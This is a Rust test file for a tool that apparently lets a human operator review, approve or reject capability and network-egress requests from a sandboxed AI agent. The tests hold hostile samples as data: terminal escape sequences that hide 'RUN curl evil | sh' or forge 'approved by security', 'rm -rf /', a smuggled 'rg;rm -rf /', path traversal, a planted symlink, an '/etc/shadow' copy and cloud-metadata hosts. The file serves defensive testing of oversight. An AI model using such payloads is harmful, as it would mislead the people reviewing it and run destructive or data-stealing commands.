//! The operator verbs against a real queue folder: `queue`, `show`, `approve`, `reject`.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{SystemTime, UNIX_EPOCH};

use serde_json::{Value, json};

/// A temp `CLAUDE_BOTTLE_HOME` with a bottle `app` (own Dockerfile) and its queue; the
/// `--json` tests (`json.rs`) use it too.
pub(super) struct Home {
    dir: tempfile::TempDir,
}

impl Home {
    pub(super) fn new() -> Self {
        let dir = tempfile::tempdir().expect("tempdir");
        let bottles = dir.path().join("bottles");
        std::fs::create_dir_all(&bottles).expect("bottles");
        std::fs::write(
            bottles.join("app.md"),
            "---\nagent: claude\ndockerfile: app.Dockerfile\n---\nA test bottle.\n",
        )
        .expect("bottle");
        std::fs::write(
            bottles.join("app.Dockerfile"),
            "FROM debian:bookworm-slim\nRUN useradd -m agent\nRUN mkdir /workspace\nUSER agent\nWORKDIR /workspace\n",
        )
        .expect("dockerfile");
        Self { dir }
    }

    pub(super) fn path(&self) -> &Path {
        self.dir.path()
    }

    pub(super) fn state(&self, slug: &str) -> PathBuf {
        self.path().join("state").join(slug)
    }

    pub(super) fn queue(&self, slug: &str, folder: &str) -> PathBuf {
        let d = self.state(slug).join("queue").join(folder);
        std::fs::create_dir_all(&d).expect("queue folder");
        d
    }

    /// Files a proposal as supervise would; `age` seconds old.
    pub(super) fn propose(&self, slug: &str, id: &str, kind: Value, age: u64) {
        let p = json!({
            "version": 1, "id": id, "bottle": slug, "kind": kind,
            "reason": "the task needs it", "evidence": ["bash: rg: command not found"],
            "created": now() - age,
        });
        let body = serde_json::to_vec_pretty(&p).expect("json");
        std::fs::write(
            self.queue(slug, "proposals").join(format!("{id}.json")),
            body,
        )
        .expect("proposal");
    }

    pub(super) fn run(&self, args: &[&str]) -> Output {
        Command::new(env!("CARGO_BIN_EXE_claude-bottle"))
            .args(args)
            .env("CLAUDE_BOTTLE_HOME", self.path())
            .env("USER", "alice")
            .env_remove("RUST_LOG")
            .stdin(Stdio::null())
            .output()
            .expect("run claude-bottle")
    }

    pub(super) fn audit(&self, slug: &str) -> Vec<Value> {
        let text =
            std::fs::read_to_string(self.state(slug).join("audit.jsonl")).unwrap_or_default();
        text.lines()
            .map(|l| serde_json::from_str(l).expect("audit lines are JSON"))
            .collect()
    }
}

pub(super) fn now() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .expect("clock after 1970")
        .as_secs()
}

pub(super) fn out(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

pub(super) fn err(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

pub(super) fn apt(pkgs: &[&str]) -> Value {
    json!({"type": "capability", "apt": pkgs})
}

pub(super) fn egress(host: &str) -> Value {
    json!({"type": "egress", "host": host})
}

/// Raw terminal controls a hostile agent puts in its free text: clear the screen and move the
/// cursor (ESC), the one-byte CSI (C1), a carriage return over a line, a title set ending in BEL,
/// a bidi override.
pub(super) const HOSTILE: &[char] = &['\u{1b}', '\u{9b}', '\r', '\u{7}', '\u{202e}', '\u{8}'];

pub(super) fn assert_no_raw_controls(what: &str, text: &str) {
    for c in HOSTILE {
        assert!(!text.contains(*c), "{what} printed a raw {c:?}: {text:?}");
    }
}

#[test]
fn show_and_reject_print_agent_and_build_text_escaped() {
    let home = Home::new();
    let p = json!({
        "version": 1, "id": "500-e", "bottle": "app", "kind": apt(&["ripgrep"]),
        "reason": "needs rg\u{1b}[2J\u{1b}[1;1Happroved by security\u{9b}31m",
        "evidence": [
            "ok\rrm -rf / \u{8}\u{8}",
            // A second line that would pass for one of show's own fields.
            "one\nstate     applied",
            "bidi \u{202e}txt.exe",
        ],
        "created": now() - 5,
    });
    std::fs::write(
        home.queue("app", "proposals").join("500-e.json"),
        serde_json::to_vec(&p).expect("json"),
    )
    .expect("proposal");
    let d = json!({"version": 1, "id": "500-e", "decision": "reject",
        "reason": "no\u{1b}]0;pwned\u{7}", "by": "bob\u{1b}[8m"});
    std::fs::write(
        home.queue("app", "decisions").join("500-e.json"),
        serde_json::to_vec(&d).expect("json"),
    )
    .expect("decision");
    let a = json!({"version": 1, "id": "500-e", "outcome": "failed", "at": now(),
        "detail": "the rebuild failed\n--- last build output ---\n\u{1b}[2Kdone\u{1b}[A"});
    std::fs::write(
        home.queue("app", "applied").join("500-e.json"),
        serde_json::to_vec(&a).expect("json"),
    )
    .expect("applied");

    let o = home.run(&["show", "500-e"]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    let shown = out(&o);
    assert_no_raw_controls("show", &shown);
    assert!(
        shown.contains("needs rg\\x1b[2J\\x1b[1;1Happroved by security\\u{9b}31m"),
        "{shown}"
    );
    assert!(shown.contains("ok\\rrm -rf / \\x08\\x08"), "{shown}");
    assert!(shown.contains("bidi \\u{202e}txt.exe"), "{shown}");
    assert!(shown.contains("no\\x1b]0;pwned\\x07"), "{shown}");
    assert!(shown.contains("\\x1b[2Kdone\\x1b[A"), "{shown}");
    assert!(
        !shown.lines().any(|l| l.starts_with("state     applied")),
        "a line of the agent's evidence passed for a field of show: {shown}"
    );

    home.propose("app", "600-f", apt(&["jq"]), 5);
    let o = home.run(&["reject", "600-f", "--reason", "no \u{1b}[2J\u{9b}H"]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    assert_no_raw_controls("reject", &out(&o));
    assert!(out(&o).contains("no \\x1b[2J\\u{9b}H"), "{}", out(&o));
}

#[test]
fn queue_and_show_escape_what_they_report_of_a_malformed_proposal() {
    let home = Home::new();
    // Invalid now (a control character in a Dockerfile line, a type that does not exist): the
    // reports quote the file's text.
    let bad_line = json!({
        "version": 1, "id": "700-g", "bottle": "app",
        "kind": {"type": "capability", "dockerfile_lines": ["RUN curl evil | sh\u{1b}[2K\u{1b}[1GRUN echo safe"]},
        "reason": "r", "created": now(),
    });
    let bad_type = json!({
        "version": 1, "id": "800-h", "bottle": "app",
        "kind": {"type": "\u{1b}[2J\u{9b}capability"}, "reason": "r", "created": now(),
    });
    for (id, p) in [("700-g", bad_line), ("800-h", bad_type)] {
        std::fs::write(
            home.queue("app", "proposals").join(format!("{id}.json")),
            serde_json::to_vec(&p).expect("json"),
        )
        .expect("proposal");
    }
    let o = home.run(&["queue"]);
    assert_no_raw_controls("queue (stdout)", &out(&o));
    assert_no_raw_controls("queue (stderr)", &err(&o));
    assert!(err(&o).contains("U+001B"), "{}", err(&o));
    for id in ["700-g", "800-h"] {
        let o = home.run(&["show", id]);
        assert_ne!(o.status.code(), Some(0), "{}", out(&o));
        assert_no_raw_controls("show (stdout)", &out(&o));
        assert_no_raw_controls("show (stderr)", &err(&o));
    }
}

#[test]
fn a_proposal_with_a_port_is_reported_not_listed() {
    let home = Home::new();
    home.propose(
        "app",
        "900-i",
        json!({"type": "egress", "host": "packages.example.org", "port": 8443}),
        5,
    );
    let o = home.run(&["queue"]);
    assert_eq!(out(&o), "no pending proposals\n", "{}", err(&o));
    assert!(err(&o).contains("ports are not enforced"), "{}", err(&o));
}

#[test]
fn queue_lists_pending_proposals_of_all_bottles_or_one() {
    let home = Home::new();
    let o = home.run(&["queue"]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    assert_eq!(out(&o), "no pending proposals\n");

    home.propose("app", "100-a", apt(&["ripgrep", "jq"]), 300);
    home.propose("app", "200-b", egress("packages.example.org"), 7_300);
    home.propose(
        "web",
        "300-c",
        json!({"type": "capability", "dockerfile_lines": ["RUN touch /m"]}),
        10,
    );
    let o = home.run(&["queue"]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    let text = out(&o);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines[0], "ID     AGE  BOTTLE  KIND        SUMMARY");
    assert_eq!(
        lines[1],
        "200-b  2h   app     egress      packages.example.org"
    );
    assert_eq!(
        lines[2],
        "100-a  5m   app     capability  apt install ripgrep jq"
    );
    assert!(
        lines[3].starts_with("300-c  1")
            && lines[3].ends_with("s  web     capability  RUN touch /m"),
        "{text}"
    );

    let o = home.run(&["queue", "web"]);
    assert_eq!(out(&o).lines().count(), 2, "{}", out(&o));
    let o = home.run(&["queue", "nothing-here"]);
    assert_eq!(out(&o), "no pending proposals\n");

    // Looking at the queue logs each proposal once.
    home.run(&["queue"]);
    let events: Vec<Value> = home
        .audit("app")
        .iter()
        .map(|e| e["event"].clone())
        .collect();
    assert_eq!(events, [json!("proposal"), json!("proposal")]);
}

fn show_filters() -> insta::Settings {
    let mut s = insta::Settings::clone_current();
    s.add_filter(
        r"created   \d+ \(\d+[smhd] ago\)",
        "created   [time] ([age] ago)",
    );
    s.add_filter(r" at \d+", " at [time]");
    // The digest covers `created`, which is relative to now here.
    s.add_filter(r"sha256    [0-9a-f]{64}", "sha256    [digest]");
    s.add_filter(r"against /\S+/bottles/", "against [home]/bottles/");
    s.add_filter(r"against /\S+/state/", "against [home]/state/");
    s
}

#[test]
fn show_draws_the_dockerfile_change_as_a_unified_diff() {
    let home = Home::new();
    home.propose("app", "100-a", apt(&["ripgrep", "jq"]), 300);
    let o = home.run(&["show", "100-a"]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    show_filters().bind(|| insta::assert_snapshot!(out(&o)));
}

#[test]
fn show_prefers_the_per_bottle_dockerfile_and_shows_the_operators_edit() {
    let home = Home::new();
    home.propose("app", "100-a", apt(&["ripgrep", "jq"]), 300);
    std::fs::write(
        home.state("app").join("Dockerfile"),
        "FROM per-bottle\nRUN true\n",
    )
    .expect("write");
    let o = home.run(&[
        "approve",
        "100-a",
        "--edit-apt",
        "ripgrep",
        "--reason",
        "jq is there",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    assert_eq!(
        out(&o),
        "approved 100-a (app, edited): apt install ripgrep\n"
    );
    let o = home.run(&["show", "100-a"]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    show_filters().bind(|| insta::assert_snapshot!(out(&o)));
}

#[test]
fn show_of_an_egress_proposal_shows_the_allowlist_line() {
    let home = Home::new();
    home.propose("app", "200-b", egress("packages.example.org"), 60);
    let o = home.run(&["show", "200-b"]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    show_filters().bind(|| insta::assert_snapshot!(out(&o)));
}

#[test]
fn approve_and_reject_write_decisions_and_audit_lines_once() {
    let home = Home::new();
    home.propose("app", "100-a", apt(&["ripgrep"]), 30);
    home.propose("app", "200-b", egress("packages.example.org"), 30);

    let o = home.run(&["approve", "100-a"]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    assert_eq!(out(&o), "approved 100-a (app): apt install ripgrep\n");
    let d: Value = serde_json::from_slice(
        &std::fs::read(home.queue("app", "decisions").join("100-a.json")).expect("decision"),
    )
    .expect("json");
    assert_eq!(
        (d["version"].clone(), d["decision"].clone(), d["by"].clone()),
        (json!(1), json!("approve"), json!("alice"))
    );
    assert!(d["at"].as_u64().is_some_and(|at| at + 60 > now()));

    let o = home.run(&["reject", "200-b", "--reason", "use the internal mirror"]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    assert_eq!(out(&o), "rejected 200-b (app): use the internal mirror\n");

    // A second decision on either is refused with exit 2 and the file is unchanged.
    let before = std::fs::read(home.queue("app", "decisions").join("100-a.json")).expect("read");
    let o = home.run(&["reject", "100-a", "--reason", "changed my mind"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        err(&o).contains("error: proposal 100-a is already decided (approved by alice)"),
        "{}",
        err(&o)
    );
    assert!(
        err(&o).contains("hint: see `claude-bottle show 100-a`"),
        "{}",
        err(&o)
    );
    assert_eq!(
        std::fs::read(home.queue("app", "decisions").join("100-a.json")).expect("read"),
        before
    );
    let o = home.run(&["approve", "200-b"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        err(&o).contains("already decided (rejected by alice)"),
        "{}",
        err(&o)
    );

    let events: Vec<(String, String)> = home
        .audit("app")
        .iter()
        .map(|e| {
            assert_eq!(e["version"], 1);
            assert!(e["at"].as_u64().is_some());
            (
                e["event"].as_str().unwrap_or_default().to_owned(),
                e["id"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect();
    let expect = [
        ("proposal", "100-a"),
        ("decision", "100-a"),
        ("proposal", "200-b"),
        ("decision", "200-b"),
    ];
    assert_eq!(events, expect.map(|(a, b)| (a.to_owned(), b.to_owned())));
    let o = home.run(&["queue"]);
    assert_eq!(out(&o), "no pending proposals\n");
}

#[test]
fn unknown_and_invalid_ids_and_bad_edits_exit_two() {
    let home = Home::new();
    home.propose("app", "200-b", egress("packages.example.org"), 30);
    for args in [
        &["approve", "nope"][..],
        &["reject", "nope", "--reason", "x"],
        &["show", "nope"],
    ] {
        let o = home.run(args);
        assert_eq!(o.status.code(), Some(2), "{args:?}");
        assert!(err(&o).contains("error: no proposal nope"), "{}", err(&o));
    }
    let o = home.run(&["show", "../../etc/passwd"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(err(&o).contains("is not a proposal id"), "{}", err(&o));
    let o = home.run(&["reject", "200-b"]);
    assert_eq!(o.status.code(), Some(2), "a rejection needs --reason");
    let o = home.run(&["approve", "200-b", "--edit-apt", "ripgrep"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(err(&o).contains("same type as the proposal"), "{}", err(&o));
    let o = home.run(&["approve", "200-b", "--edit-apt", "rg;rm -rf /"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(err(&o).contains("invalid apt package"), "{}", err(&o));
    assert!(!home.queue("app", "decisions").join("200-b.json").exists());
}

#[test]
fn a_malformed_proposal_is_reported_with_its_path() {
    let home = Home::new();
    home.propose("app", "100-a", apt(&["ripgrep"]), 30);
    std::fs::write(
        home.queue("app", "proposals").join("bad-1.json"),
        b"{\"version\":1,",
    )
    .expect("write");
    let o = home.run(&["queue"]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    assert!(out(&o).contains("100-a"), "{}", out(&o));
    assert!(!out(&o).contains("bad-1"));
    let e = err(&o);
    assert!(
        e.contains("warning: failed to read ")
            && e.contains("queue/proposals/bad-1.json: failed to parse proposal"),
        "{e}"
    );
    let o = home.run(&["approve", "bad-1"]);
    assert_eq!(o.status.code(), Some(1));
    assert!(err(&o).contains("bad-1.json"), "{}", err(&o));
}

#[test]
fn a_symlink_planted_as_the_decision_is_refused_not_followed() {
    let home = Home::new();
    home.propose("app", "100-a", apt(&["ripgrep"]), 30);
    let victim = home.path().join("victim");
    std::fs::write(&victim, b"keep").expect("victim");
    std::os::unix::fs::symlink(&victim, home.queue("app", "decisions").join("100-a.json"))
        .expect("plant");
    let o = home.run(&["approve", "100-a"]);
    assert_ne!(o.status.code(), Some(0));
    assert!(err(&o).contains("it is a symlink"), "{}", err(&o));
    assert_eq!(std::fs::read(&victim).expect("read"), b"keep");
    assert!(
        std::fs::symlink_metadata(home.queue("app", "decisions").join("100-a.json"))
            .expect("stat")
            .file_type()
            .is_symlink()
    );
    assert!(home.audit("app").iter().all(|e| e["event"] != "decision"));
}

/// The proposal's digest, as `show` prints it on its `sha256` line.
fn shown_digest(home: &Home, id: &str) -> String {
    let o = home.run(&["show", id]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    out(&o)
        .lines()
        .find_map(|l| l.strip_prefix("sha256"))
        .map(|d| d.trim().to_owned())
        .expect("a sha256 line")
}

#[test]
fn an_approval_is_bound_to_the_proposal_text_the_operator_read() {
    let home = Home::new();
    home.propose("app", "100-a", apt(&["ripgrep"]), 30);
    let read = shown_digest(&home, "100-a");
    assert_eq!(read.len(), 64);
    // The proposal is replaced after the operator read it: approving what was read is refused.
    home.propose("app", "100-a", apt(&["ripgrep", "netcat-openbsd"]), 30);
    let o = home.run(&["approve", "100-a", "--sha256", &read[..12]]);
    assert_eq!(o.status.code(), Some(2), "{}", out(&o));
    assert!(
        err(&o).contains("it is not the text you read"),
        "{}",
        err(&o)
    );
    assert!(!home.queue("app", "decisions").join("100-a.json").exists());
    // Too short a prefix is a usage error, not a weak check.
    let now = shown_digest(&home, "100-a");
    let o = home.run(&["approve", "100-a", "--sha256", &now[..6]]);
    assert_eq!(o.status.code(), Some(2));
    assert!(err(&o).contains("at least 12 hex digits"), "{}", err(&o));
    // Approving the text now shown works, and the decision names its digest.
    let o = home.run(&["approve", "100-a", "--sha256", &now[..12]]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    let d: Value = serde_json::from_slice(
        &std::fs::read(home.queue("app", "decisions").join("100-a.json")).expect("decision"),
    )
    .expect("json");
    assert_eq!(d["proposal_sha256"], json!(now));
}

#[test]
fn show_marks_each_added_line_that_reads_outside_the_build_context() {
    let home = Home::new();
    let lines = ["COPY --from=evil/image:1 /etc/shadow /x", "RUN true"];
    home.propose(
        "app",
        "300-c",
        json!({"type": "capability", "dockerfile_lines": lines}),
        60,
    );
    let o = home.run(&["show", "300-c"]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    let shown = out(&o);
    assert!(
        shown.contains(
            "+COPY --from=evil/image:1 /etc/shadow /x\n\
             ! reads outside the build context: --from takes files from another image or build stage\n\
             +RUN true\n"
        ),
        "{shown}"
    );
    assert_eq!(shown.matches("! reads outside").count(), 1, "{shown}");
}

#[test]
fn show_refuses_a_line_that_continues_under_the_dockerfiles_escape_directive() {
    let home = Home::new();
    home.propose(
        "app",
        "400-d",
        json!({"type": "capability", "dockerfile_lines": ["RUN curl -o /x http://h `"]}),
        60,
    );
    std::fs::write(
        home.state("app").join("Dockerfile"),
        "# escape=`\nFROM per-bottle\nUSER 1001\n",
    )
    .expect("write");
    let o = home.run(&["show", "400-d"]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    assert!(
        out(&o).contains("cannot be applied: invalid Dockerfile line")
            && out(&o).contains("it ends with a line continuation"),
        "{}",
        out(&o)
    );
}

#[test]
fn an_internal_egress_host_needs_the_operators_explicit_flag() {
    let home = Home::new();
    for (id, host) in [
        ("300-a", "10.0.0.7"),
        ("300-b", "pipelock"),
        ("300-c", "169.254.169.254"),
        ("300-d", "2130706433"),
        ("300-e", "metadata.google.internal"),
    ] {
        home.propose("app", id, egress(host), 30);
        let o = home.run(&["approve", id]);
        assert_eq!(o.status.code(), Some(2), "{host}: {}", out(&o));
        assert!(
            err(&o).contains("--allow-internal-host"),
            "{host}: {}",
            err(&o)
        );
        assert!(
            !home
                .queue("app", "decisions")
                .join(format!("{id}.json"))
                .exists(),
            "{host}"
        );
    }
    // With the flag the approval is written and says so, for the launcher to check again.
    let o = home.run(&["approve", "300-a", "--allow-internal-host"]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    let d: Value = serde_json::from_slice(
        &std::fs::read(home.queue("app", "decisions").join("300-a.json")).expect("decision"),
    )
    .expect("json");
    assert_eq!(d["allow_internal_host"], json!(true));
    // An ordinary public name needs no flag, and its decision does not carry one.
    home.propose("app", "300-f", egress("packages.example.org"), 30);
    let o = home.run(&["approve", "300-f"]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    let d: Value = serde_json::from_slice(
        &std::fs::read(home.queue("app", "decisions").join("300-f.json")).expect("decision"),
    )
    .expect("json");
    assert_eq!(d.get("allow_internal_host"), None);
}
